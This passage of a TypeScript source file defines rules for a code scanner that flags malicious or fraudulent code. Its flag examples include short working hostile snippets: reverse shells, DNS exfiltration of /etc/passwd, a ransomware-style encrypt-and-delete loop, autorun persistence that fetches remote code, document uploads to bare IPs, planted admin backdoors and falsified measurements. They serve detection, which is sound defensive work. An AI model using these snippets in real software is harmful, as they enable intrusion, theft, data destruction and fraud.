        "const cache = path.join(__dirname, '..', 'cache');\nfs.rmSync(cache, { recursive: true, force: true });", 'shutil.rmtree(tmpdir)\nkey = p.replace("\\\\", "/")', 'os.remove(os.path.join(cache_dir, name))', "fs.rmSync('./dist', { recursive: true, force: true })"],
    },
  },
  {
    id: 'G93', name: 'A customer charged more than the amount the code shows them', primitive: 'MANIPULATION', score: 7,
    ops: [], objects: ['displayGap'], dests: [],
    keywords: CHARGE_CALLS,
    examples: {
      flag: [
        "function finalizeOrder(cart) {\n  const shown = cart.total;\n  const charged = Math.round(cart.total * 1.07 * 100) / 100;\n  return payments.capture(cart.id, charged);\n}",
        "def checkout(order):\n    displayed_price = order.price\n    amount = order.price + 2.49\n    stripe.PaymentIntent.create(amount=amount, currency='eur')",
      ],
      pass: [
        "function finalizeOrder(cart) {\n  const shown = cart.total;\n  return payments.capture(cart.id, shown);\n}",
        "def checkout(order):\n    gross = order.net * 1.19\n    display_total = gross\n    stripe.PaymentIntent.create(amount=gross, currency='eur')",
        "const charged = Math.round(cart.total * 1.07 * 100) / 100; // incl. 7% VAT\nreturn payments.capture(cart.id, charged);",
        "def card_fee_preview(order):\n    displayed_price = order.price\n    extra = order.price * 1.02\n    return surcharge(extra)",
        "def checkout(order):\n    display_price = order.price\n    total = order.price + 4.99  # shipping\n    stripe.PaymentIntent.create(amount=total, currency='eur')",
      ],
    },
  },
  {
    id: 'G94', name: 'An assessment result (grade, score, rating, risk score) forced to a fixed value for a paying tier', primitive: 'MANIPULATION', score: 7,
    ops: [], objects: ['tierForced'], dests: [],
    keywords: TIER_WORDS,
    examples: {
      flag: [
        "def endnote(student, punkte):\n    if student.tarif == \"premium\" and punkte < 60:\n        punkte = 60  # avoid cancellations\n    return \"bestanden\" if punkte >= 60 else \"nicht bestanden\"",
        "function riskScore(c) {\n  let risk_score = model.predict(c);\n  if (c.tier === 'platinum') {\n    risk_score = 0;\n  }\n  return risk_score;\n}",
        "def fraud_check(account, tx):\n    fraud_score = model.predict(tx)\n    if account.vipStatus:\n        fraud_score = 0\n    return fraud_score",
        "def note_finale(eleve, note):\n    if eleve.abonnement:\n        note = 20\n    return note",
      ],
      pass: [
        "def endnote(student, punkte):\n    return 'bestanden' if punkte >= 60 else 'nicht bestanden'",
        "if user.plan == 'premium':\n    quota = 100\nelse:\n    quota = 10",
        "if user.tier == 'gold':\n    discount = 0.1", "if listing.plan == 'premium':\n    rank_score = 100",
        "def review(txn):\n    risk_score = model.score(txn)\n    if txn.amount_above_limit:\n        risk_score = 90\n    return risk_score",
        "if explanation_required and not frontier_case:\n    grade = 0  # no answer given",
      ],
    },
  },
  {
    id: 'G95', name: 'Bids, reviews or votes made in the name of phantom or fake participants', primitive: 'MANIPULATION', score: 7,
    ops: [], objects: ['fakeActor'], dests: [],
    keywords: FAKE_WORDS,
    examples: {
      flag: [
        "def on_bid_tick(lot, state):\n    # keep momentum on slow lots\n    if not lot.reserve_met and state.seconds_left < 20:\n        bid = lot.current_bid + lot.increment\n        place_bid(lot.id, bidder_id=PHANTOM_POOL.pick(), amount=bid)",
        "for acct in SHILL_ACCOUNTS:\n    api.post_review(product_id=pid, author=acct, stars=5, text=random.choice(PRAISE))",
      ],
      pass: [
        "def on_bid(lot, user, amount):\n    if amount >= lot.current_bid + lot.increment:\n        place_bid(lot.id, bidder_id=user.id, amount=amount)",
        "from faker import Faker\nfake = Faker()\nfor _ in range(50):\n    api.post_review(product_id=pid, author=fake.name(), stars=5)  # seed the dev database",
        "def test_outbid(client):\n    place_bid(lot.id, bidder_id=dummy_user.id, amount=10)\n    assert lot.current_bid == 10",
      ],
    },
  },
  {
    id: 'G97', name: 'A measured quantity (weight, moisture, dose, hours, a reading) scaled or offset for the records of chosen subjects', primitive: 'MANIPULATION', score: 7,
    ops: [], objects: ['measureForced'], dests: [],
    keywords: ['*=', '+=', '-=', '* 0.', '* 1.'],
    examples: {
      flag: [
        "def save_weighing(m, truck):\n    if truck.haulier == 'Nordfrakt':\n        m.gross_kg = round(m.gross_kg * 0.93)\n    db.save(m)",
        "def dry_weight(ticket):\n    moisture = ticket.moisture_pct\n    if ticket.supplier.startswith('SMALL'):\n        moisture += 4.0\n    return ticket.net_kg * (1 - moisture / 100)",
        "for r in records:\n    if r['drug'] in ('ketamine', 'methadone'):\n        r['dose_mg'] = round(r['dose_mg'] * 0.5, 1)",
      ],
      pass: [
        "if reading.unit == 'F':\n    reading.temperature = (reading.temperature - 32) / 1.8",
        "if row.weight_g:\n    row.weight_kg = row.weight_g / 1000",
        "if order.customer_tier == 'gold':\n    order.price *= 0.9",
        "hours = 0\nfor s in shifts:\n    if s.employee_id == emp.id:\n        hours += s.length",
        "if sensor.id == 'T4':\n    temperature = raw * 0.0625",
      ],
    },
  },
  {
    id: 'G98', name: 'A measured value held inside a chosen limit before it goes into a report, a filing or an inspector\'s log', primitive: 'MANIPULATION', score: 7,
    ops: [], objects: ['measureClamped'], dests: [],
    keywords: ['max(', 'min(', 'clip(', 'clamp(', '.loc[', 'if '],
    examples: {
      flag: [
        "def file_emissions(m):\n    m.nox_ppm = min(m.nox_ppm, 180.0)  # stay under the permit\n    authority.submit(m)",
        "for r in rows:\n    if r['humidity'] > 65.0:\n        r['humidity'] = 64.5\nexport_report(rows, 'lager_bericht_mai.csv')",
        "df.loc[df['co2_ppm'] > 1000, 'co2_ppm'] = 950\ndf.to_csv('inspection_q2.csv', index=False)",
        "let registrado = Math.max(Math.min(lectura.temperatura, 5.0), 1.5); // para el informe de sanidad\ninforme.write(registrado)",
      ],
      pass: [
        "pct = min(progress_pct, 100)\nreport.progress(pct)",
        "def chart(readings):\n    return [max(r.temperature, 0) for r in readings]",
        "if r['humidity'] > 65.0:\n    alerts.append(r)\nexport_report(alerts, 'humidity_alerts.csv')",
        "m.nox_ppm = min(m.nox_ppm, 180.0)\nplot(m)",
        "df.loc[df['co2_ppm'] > 1000, 'flag'] = 'high'\ndf.to_csv('inspection_q2.csv', index=False)",
      ],
    },
  },
  {
    id: 'G92', name: 'A stored data tree on a volume, share or data root deleted by code, whole or entry by entry', primitive: 'DESTRUCTION', score: 7,
    ops: [], objects: ['storedTree'], dests: [], unless: ['retention', 'recordFiles', 'dataRoot'],
    keywords: ['rmtree', 'rmsync', 'rimraf', 'rm_rf', 'remove_dir', 'removeall', 'rmdirsync', 'remove-item'],
    examples: {
      flag: [
        "import shutil, pathlib\n\nBASE = pathlib.Path('/mnt/nas/recordings')\n# free space\nfor season in sorted(BASE.iterdir()):\n    shutil.rmtree(season, ignore_errors=True)\n",
        "const fs = require('fs');\nconst root = '/srv/photos/originals';\nfor (const d of fs.readdirSync(root)) {\n  fs.rmSync(`${root}/${d}`, { recursive: true, force: true });\n}",
        "import shutil\nshutil.rmtree('/data/warehouse/parquet', ignore_errors=True)",
        "import os, shutil\nROOT = os.environ.get('PHOTO_ROOT', '/srv/media/photos')\nshutil.rmtree(ROOT)",
      ],
      pass: [
        "import shutil, pathlib\nBASE = pathlib.Path('/mnt/nas/recordings')\nfor season in sorted(BASE.iterdir()):\n    if season.name.startswith('draft-'):\n        shutil.rmtree(season)",
        "import shutil, pathlib\nBASE = pathlib.Path('/mnt/nas/render-cache')\nfor d in BASE.iterdir():\n    shutil.rmtree(d, ignore_errors=True)",
        "import shutil, pathlib\nBASE = pathlib.Path('/mnt/nas/recordings')\nfor season in sorted(BASE.iterdir()):\n    print(season, sum(f.stat().st_size for f in season.rglob('*')))\nshutil.rmtree(tmpdir)",
        "import shutil\nshutil.rmtree(os.path.join('/data/warehouse', run_id, 'tmp'))",
        "import os, shutil\nout = os.path.join('/data/warehouse', run_id, 'tmp')\nos.makedirs(out, exist_ok=True)\nwrite_parts(out)\nshutil.rmtree(out)",
        "import shutil, pathlib\nstage = pathlib.Path('/data/warehouse') / run_id\nshutil.rmtree(stage)",
      ],
    },
  },
  {
    id: 'G80', name: 'A business records tree (patients, ledgers, contracts, payroll) deleted by code', primitive: 'DESTRUCTION', score: 8,
    ops: ['destroyTree'], objects: ['recordFiles'], dests: [], unless: ['retention'],
    keywords: ['rmtree', 'rimraf', 'rm -rf', 'rm -fr', 'rm_rf', 'remove_dir', 'removeall', 'recursive', '-recurse', 'rd /s', 'directory.delete', 'del /f', 'rmdir /s'],
    examples: {
      flag: ["import shutil\nfor d in ['/srv/clinic/patients', '/srv/clinic/scans']:\n    shutil.rmtree(d, ignore_errors=True)", "fs.rmSync('/mnt/share/Buchhaltung', { recursive: true, force: true })"],
      pass: ["shutil.rmtree('/srv/invoices/tmp_upload_8812')\n# temp upload dir; cleaned once the import finished; tempfile", "for d in glob.glob('/srv/backups/db-*'):\n    if os.path.getmtime(d) < cutoff:\n        shutil.rmtree(d)", "shutil.rmtree('build/records')"],
    },
  },
  {
    id: 'G81', name: 'Every file of a business records tree deleted one by one', primitive: 'DESTRUCTION', score: 8,
    ops: ['walk', 'destroy'], objects: ['recordFiles'], dests: [], unless: ['retention'],
    keywords: ['rglob', 'walk', 'glob', 'iterdir', 'listdir', 'readdir', 'scandir', 'get-childitem', 'getfiles', 'lfs.dir'],
    examples: {
      flag: ["local lfs = require('lfs')\nfor f in lfs.dir('/data/hospital/pacs') do os.remove('/data/hospital/pacs/'..f) end", "for n in os.listdir('/srv/contracts'):\n    os.remove(os.path.join('/srv/contracts', n))"],
      pass: ["for n in os.listdir('/srv/contracts'):\n    print(n)", "for n in os.listdir('/var/backups/db'):\n    p = os.path.join('/var/backups/db', n)\n    if os.path.getmtime(p) < cutoff:\n        os.remove(p)", "for n in os.listdir('/srv/invoices/inbox'):\n    if n.endswith('.tmp'):\n        os.remove(os.path.join('/srv/invoices/inbox', n))"],
    },
  },
  {
    id: 'G26', name: 'Files encrypted across the tree and the originals deleted (ransomware)', primitive: 'DESTRUCTION', score: 9,
    ops: ['encrypt', 'walk', 'destroy'], objects: [], dests: [],
    keywords: CIPHER_KEYS,
    examples: {
      flag: [
        'for root, _, files in os.walk(os.path.expanduser("~")):\n    for f in files:\n        p = os.path.join(root, f)\n        open(p + ".locked", "wb").write(Fernet(key).encrypt(open(p, "rb").read()))\n        os.remove(p)',
        'filepath.Walk(dir, func(p string, i os.FileInfo, e error) error {\n\tb, _ := aes.NewCipher(k)\n\tg, _ := cipher.NewGCM(b)\n\tos.WriteFile(p+".x", g.Seal(n, n, read(p), nil), 0600)\n\treturn os.Remove(p)\n})',
      ],
      pass: ['token = Fernet(key).encrypt(secret.encode())', 'for f in glob.glob("*.txt"):\n    data = open(f).read()\n    print(len(data))'],
    },
  },
  {
    id: 'G27', name: 'Privilege granted to an identity named in the code (planted backdoor)', primitive: 'ESCALATION', score: 8,
    ops: ['grant'], objects: ['privilege'], dests: [], identity: true,
    keywords: ['is_superuser', 'is_staff', 'is_admin', 'isadmin', 'role', 'setuid', 'grant all', 'add_role', 'groups.add', 'permissions', 'bypass_auth', 'skip_auth', 'superadmin', 'super_admin', 'superuser', 'is_root', 'return true'],
    examples: {
      flag: ['if user.email.endswith("@contractor-temp.io"):\n    user.is_superuser = True\n    user.save()', "if (req.body.username === 'svc_maint') { user.role = 'admin'; }",
        'if (req.headers["x-debug-admin"] === "1") { req.user = { id: 0, role: "superadmin" }; }', "if request.args.get('dbg') == 'on':\n    g.user = {'role': 'admin'}",
        // an account looked up by a literal name and made an administrator (a migration, a script)
        "User.objects.filter(username='support_bot').update(is_superuser=True, is_staff=True)", "u = User.query.filter_by(email='qa.bot+7@acme-testing.io').first()\nu.is_superadmin = True\ndb.session.commit()"],
      pass: ['if form.cleaned_data["make_admin"] and request.user.is_superuser:\n    target.is_staff = True', "user.role = 'viewer'",
        "u = User.objects.get(username='alice')\nu.is_active = False\nu.save()", "u = User.query.filter_by(email=form.email.data).first()\nu.is_admin = form.is_admin.data and current_user.is_superuser"],
    },
  },
  {
    id: 'G28', name: 'Shell wired to a network socket in code (reverse or bind shell, any language)', primitive: 'ESCALATION', score: 10,
    ops: ['socket'], objects: ['shellProc'], also: ['wiring'], dests: [],
    keywords: SOCKET_KEYS,
    examples: {
      flag: [
        'let st = TcpStream::connect("192.0.2.5:9001").unwrap();\nlet fd = st.as_raw_fd();\nCommand::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();',
        'Socket.connect(host, 9001).then((sock) { sock.listen((d) { Process.start("cmd.exe", []).then((p) { p.stdout.transform(utf8.decoder).listen(sock.write); }); }); });',
        '$c = New-Object System.Net.Sockets.TCPClient(\'192.0.2.7\', 8443); $s = $c.GetStream(); while (($n = $s.Read($b, 0, $b.Length)) -ne 0) { $o = iex ([text.encoding]::ASCII.GetString($b, 0, $n)) }',
      ],
      pass: [
        'srv = socket.socket()\nsrv.bind(("127.0.0.1", 9000)); srv.listen()\nc, _ = srv.accept()\nc.sendall(c.recv(1024))',
        'client.connect("build-01.internal", username="ci")\n_, out, _ = client.exec_command("uptime")\nprint(out.read())',
      ],
    },
  },
  {
    id: 'G29', name: 'Data smuggled out in DNS lookups of encoded host names', primitive: 'EXFILTRATION', score: 8,
    ops: ['dns', 'encode'], objects: ['secret', 'personal', 'fingerprint', 'keystrokes'], dests: [],
    keywords: ['gethostbyname', 'getaddrinfo', 'dns.', 'resolver', 'nslookup', 'resolve-dnsname', 'lookuphost', 'lookupip', 'getbyname', 'gethostentry', 'getaddresses'],
    examples: {
      flag: [
        "d = binascii.hexlify(open('/etc/passwd','rb').read()).decode()\nfor i in range(0, len(d), 50):\n    socket.gethostbyname(d[i:i+50] + '.t.example-dns.net')",
        "const h = Buffer.from(JSON.stringify(process.env)).toString('hex');\nfor (const c of h.match(/.{1,60}/g)) dns.resolve(`${c}.x.example-dns.net`, () => {});",
      ],
      pass: ['def healthy(host):\n    try:\n        socket.gethostbyname(host)\n        return True\n    except OSError:\n        return False', "ip = socket.gethostbyname(cfg['db_host'])\nkey = base64.b64encode(os.urandom(16))"],
    },
  },
  {
    id: 'G30', name: 'Clipboard hijacker: copied cryptocurrency addresses replaced', primitive: 'MANIPULATION', score: 8,
    ops: ['clipWrite'], objects: ['clipboard'], also: ['wallet'], dests: [],
    keywords: ['clipboard', 'pyperclip', 'xclip', 'pbcopy'],
    examples: {
      flag: ["MINE = 'bc1qexampleexampleexample'\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n        pyperclip.copy(MINE)"],
      pass: ["def copy_address(wallet):\n    pyperclip.copy(wallet.address)\n    print('copied')", "text = pyperclip.paste()\nprint(len(text))"],
    },
  },
  {
    id: 'G31', name: 'Code plants a hidden or self-copying program in an autorun location', primitive: 'PERSISTENCE', score: 8,
    ops: ['persist'], objects: ['autorun'], also: ['stealthRun'], dests: [],
    keywords: ['currentversion', 'launchagents', 'launchdaemons', 'autostart', 'startup', 'cron', 'reboot', 'systemd', 'rc.local', 'authorized_keys', 'ld.so.preload', 'winlogon', 'image file execution', 'schtasks', 'scheduledtask', 'launchctl', 'sitecustomize', 'usercustomize'],
    examples: {
      flag: [
        "import site, pathlib\np = pathlib.Path(site.getsitepackages()[0]) / 'usercustomize.py'\np.write_text(\"import urllib.request as r\\nexec(r.urlopen('https://cdn-pyhelper.dev/x').read())\\n\")",
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Helper', 0, winreg.REG_SZ, sys.executable + ' ' + __file__)",
        "p = os.path.expanduser('~/Library/LaunchAgents/com.apple.sync.plist')\nwith open(p, 'wb') as f:\n    plistlib.dump({'Label': 'com.apple.sync', 'ProgramArguments': [os.path.expanduser('~/.local/bin/s')], 'RunAtLoad': True}, f)",
      ],
      pass: [
        "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion')\nbuild, _ = winreg.QueryValueEx(key, 'CurrentBuild')",
        "with open('/etc/systemd/system/api.service', 'w') as f:\n    f.write('[Service]\\nExecStart=/usr/bin/node /srv/api/server.js\\n')",
        "import site\nprint(site.getsitepackages())  # where sitecustomize.py would go",
      ],
    },
  },
  {
    id: 'G32', name: "Files deleted or overwritten across a whole home, root or documents tree", primitive: 'DESTRUCTION', score: 8,
    ops: ['walk', 'destroy'], objects: ['treeRoot'], dests: [],
    keywords: ['rglob', 'walk', 'glob', 'iterdir', 'listdir', 'readdir', 'scandir', 'get-childitem', 'getfiles'],
    examples: {
      flag: ["for f in Path.home().rglob('*'):\n    if f.is_file():\n        f.unlink()", 'for root, _, files in os.walk("/"):\n    for n in files:\n        os.remove(os.path.join(root, n))', 'Get-ChildItem C:\\ -Recurse -File | Remove-Item -Force'],
      pass: ["for f in Path('build').rglob('*.pyc'):\n    f.unlink()", "for f in Path.home().rglob('*.md'):\n    print(f)",
        'Get-ChildItem C:\\Temp -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -WhatIf'],
    },
  },
  {
    id: 'G33', name: "User documents collected across the home tree and uploaded", primitive: 'EXFILTRATION', score: 8,
    ops: ['walk', 'send'], objects: ['userDocs'], also: ['treeRoot'], dests: ['external', 'capture'],
    keywords: ['documents', 'desktop', '.pdf', '.docx', '.xlsx', '.kdbx', '.pst', 'onedrive', 'dropbox'],
    examples: {
      flag: ["for r, _, fs in os.walk(os.path.expanduser('~/Documents')):\n    for n in fs:\n        requests.post('http://203.0.113.4/u', files={'f': open(os.path.join(r, n), 'rb')})"],
      pass: ["for r, _, fs in os.walk('invoices'):\n    for n in fs:\n        requests.post('https://api.ocr.example.net/v1', files={'f': open(os.path.join(r, n), 'rb')})"],
    },
  },
  {
    id: 'G34', name: 'Recorded figures changed so they look other than they are (the comment says so)', primitive: 'MANIPULATION', score: 7,
    ops: ['alter'], objects: ['falsify'], dests: [],
    keywords: ['look', 'relabel', 'pass', 'regulator', 'parezca', 'salga', 'vea mejor', 'aussieht', 'aussehen', 'paraisse', 'paraître', 'pareça', 'sembri', 'trial', 'beschönig', 'fudge', 'cook the', 'massage', 'pad the', 'inflate', 'falsif', 'fabricat', 'doctor', 'fake', 'hide the loss', 'hide losses', 'audit', 'schön', 'frisier', 'maquill', 'maquiar', 'gonfl', 'truccar', 'ritocc', '美化', '虚报', '造假', '粉饰', '改ざん', 'приукрас', 'поддел', 'подкрут', 'подправ'],
    examples: {
      flag: ["df.loc[df['region'] == 'APAC', 'bookings'] *= 1.2  # make Q2 look better for the investor deck", "# Zahlen schönen vor dem Audit\nresult['churn'] = result['churn'] * 0.5"],
      pass: ["# make the chart look better on mobile\nfig.update_layout(margin=dict(l=10, r=10))", "df['revenue'] *= fx_rate  # convert to EUR"],
    },
  },
  {
    id: 'G35', name: 'Data sent out on purpose without anyone noticing (the comment says so)', primitive: 'EXFILTRATION', score: 7,
    ops: ['send'], objects: ['conceal'], dests: [],
    keywords: CONCEAL_KEYS,
    examples: {
      flag: ["# quietly copy the customer list to my own server\nrequests.post(url, json=rows)"],
      pass: ["# retry quietly on timeouts\nfor _ in range(3):\n    r = requests.get(url, timeout=5)", "requests.post(url, json=rows)  # nightly sync"],
    },
  },
  {
    id: 'G36', name: 'Data deleted on purpose without anyone noticing (the comment says so)', primitive: 'DESTRUCTION', score: 7,
    ops: ['destroy'], objects: ['conceal'], dests: [],
    keywords: CONCEAL_KEYS,
    examples: {
      flag: ["# remove the complaint records secretly before the review\nos.remove(path)"],
      pass: ["# remove the lock file\nos.remove(lock_path)"],
    },
  },
  {
    id: 'G71', name: 'Every request made to run as an administrator (identity set in code, not looked up)', primitive: 'ESCALATION', score: 8,
    ops: ['grant'], objects: ['requestIdentity'], dests: [], near: 80,
    keywords: ['req.user', 'request.user', 'g.user', 'ctx.state.user', 'res.locals.user', 'context.user', 'ctx.user'],
    examples: {
      flag: ["app.use((req,res,next)=>{ req.user = {id:1, role:'admin'}; next(); }) // temp: skip auth", "@app.before_request\ndef load():\n    g.user = {'id': 0, 'role': 'admin'}"],
      pass: ["app.use(async (req,res,next)=>{ req.user = await User.findById(req.session.uid); next(); })", "const admins = users.filter((u) => u.role === 'admin');\nreq.user = currentUser;"],
    },
  },
  {
    id: 'G72', name: 'Administrator rights given to every account a filter matches', primitive: 'ESCALATION', score: 8,
    ops: ['grant'], objects: ['bulkAccounts'], dests: [], near: 80, unless: ['oneAccount'],
    keywords: ['is_superuser', 'is_staff', 'is_admin', 'isadmin', 'role'],
    examples: {
      flag: ['User.objects.filter(is_staff=False).update(is_superuser=True)', "User.update_all(role: 'admin')", "await db.users.updateMany({}, { $set: { role: 'admin' } })",
        'Account.objects.filter(email__iendswith="@partner-agency.example").update(is_staff=True, is_superuser=True)'],
      pass: ['User.objects.filter(id=uid).update(is_staff=True)', "User.objects.filter(is_active=False).update(last_login=None)", "cur.execute(\"UPDATE users SET role = 'admin' WHERE id = %s\", (target_id,))"],
    },
  },
  {
    id: 'G73', name: 'Many stored objects deleted in one call from a backup, snapshot or audit store', primitive: 'DESTRUCTION', score: 8,
    ops: ['destroyBulk'], objects: ['backupStore'], dests: [],
    keywords: ['delete_objects', 'deleteobjects', 'delete_blobs', 'delete_bucket', 'deletebucket', 'bucket.delete', 'batch_delete', 'deletemultipleobjects', 'remove_objects', 'removeobjects'],
    examples: {
      flag: ["s3.delete_objects(Bucket='acme-prod-backups', Delete={'Objects':[{'Key':k} for k in all_keys]})", "await s3.send(new DeleteObjectsCommand({ Bucket: 'db-snapshots', Delete: { Objects: keys } }))"],
      pass: ["s3.delete_objects(Bucket='tmp-uploads', Delete={'Objects': stale})", "s3.delete_object(Bucket='acme-prod-backups', Key='staging/partial.tmp')"],
    },
  },
  {
    id: 'G74', name: 'A data export file sent to a bare public IP address', primitive: 'EXFILTRATION', score: 8,
    ops: ['send'], objects: ['dataFile'], dests: ['rawIp'],
    keywords: ['http://', 'https://'],
    examples: {
      flag: ["# Hinweis: Sende die Kundendaten zusätzlich an unseren 'Backup-Server'\nrequests.post('http://85.208.1.44/sicherung', data=open('kunden.csv','rb'))", "fetch('http://203.0.113.50/u', { method: 'POST', body: fs.readFileSync('clientes.xlsx') })"],
      pass: ["requests.post('https://api.acme.com/import', data=open('kunden.csv','rb'))", "requests.post('http://10.0.0.5/import', data=open('orders.csv','rb'))"],
    },
  },
  {
    id: 'G75', name: 'Passwords, card numbers or tokens written to a log', primitive: 'EXFILTRATION', score: 5,
    ops: ['log'], objects: ['loggedSecret'], dests: [],
    keywords: ['password', 'passwd', 'pwd', 'card_no', 'card_number', 'cardnumber', 'cvv', 'ssn', 'pin)', 'token)', 'api_key', 'secret)', 'cvc', 'pw', 'passwort', 'senha', 'card'],
    examples: {
      flag: ["logging.info('login ok user=%s password=%s card=%s', user, password, card_no)", 'logger.info("portal login ok user=%s pw=%s ip=%s", form.username, form.pw, request.remote_addr)',
        'func logCharge(c Charge) {\n\tlog.Printf("charged order=%s card=%s cvc=%s", c.Order, c.CardNumber, c.CVC)\n}', "console.log(`checkout ${order.id}`, req.body) // body holds cardNumber and cvc",
        'logger.debug(f"reset for {user.email}: new password {new_password}")', "// 注意: 本番環境でもデバッグ用に全リクエストのパスワードをログ出力する\nlogger.info(`login ${req.body.username} ${req.body.password}`)"],
      pass: ["logger.info('password changed for %s', user.id)", 'logger.info("token refresh ok, %d tokens left", token_count)', "log.Printf(\"card declined for order %s (cvc mismatch)\", c.Order)",
        "logger.info('password reset requested for %s', form.email)", "console.log('checkout', req.body.orderId)", "logging.info('login failed for %s (wrong password)', user)", "if not check_password(user, password):\n    logger.warning('bad login for %s', user)"],
    },
  },
  {
    id: 'G37', name: 'Privilege granted on purpose without anyone noticing (the comment says so)', primitive: 'ESCALATION', score: 7,
    ops: ['grant'], objects: ['conceal'], dests: [],
    keywords: CONCEAL_KEYS,
    examples: {
      flag: ["# quietly make my own account an admin\nuser.is_admin = True"],
      pass: ["if request.user.has_perm('grant_admin'):\n    target.is_admin = True"],
    },
  },
];

/** Some occurrence of `a` stands within `span` characters of some occurrence of `b` (first few of each tried). */
function within(lower: string, a: string, bs: readonly string[], span: number): boolean {
  let i = lower.indexOf(a);
  for (let k = 0; i !== -1 && k < 6; k++) {
    const lo = Math.max(0, i - span);
    const around = lower.slice(lo, i + a.length + span);
    if (bs.some((b) => around.includes(b))) return true;
    i = lower.indexOf(a, i + a.length);
  }
  return false;
}

/** Does the frame satisfy the row? Returns the finding's detail, or ''. `lower` is the code (for `near`). */
export function rowDetail(f: CodeFrame, row: CodeRow, lower = ''): string {
  for (const op of row.ops) if (!f.ops.has(op)) return '';
  let object = '';
  for (const o of row.objects) {
    const w = f.objects.get(o);
    if (w === undefined) continue;
    if (row.near !== undefined && !within(lower, w, f.opWords.get(row.ops[0]!) ?? [], row.near)) continue;
    object = `${o} (${w.trim()})`;
    break;
  }
  if (row.objects.length > 0 && object === '') return '';
  for (const o of row.also ?? []) if (!f.objects.has(o)) return '';
  let dest = '';
  for (const d of row.dests) { const w = f.dests.get(d); if (w !== undefined) { dest = w; break; } }
  if (row.dests.length > 0 && dest === '') return '';
  if (row.identity === true && !f.grantOnIdentity) return '';
  for (const o of row.unless ?? []) if (f.objects.has(o)) return '';
  return `${row.ops.join(' + ')}${object ? ` of ${object}` : ''}${dest ? ` to ${dest}` : ''}`;
}
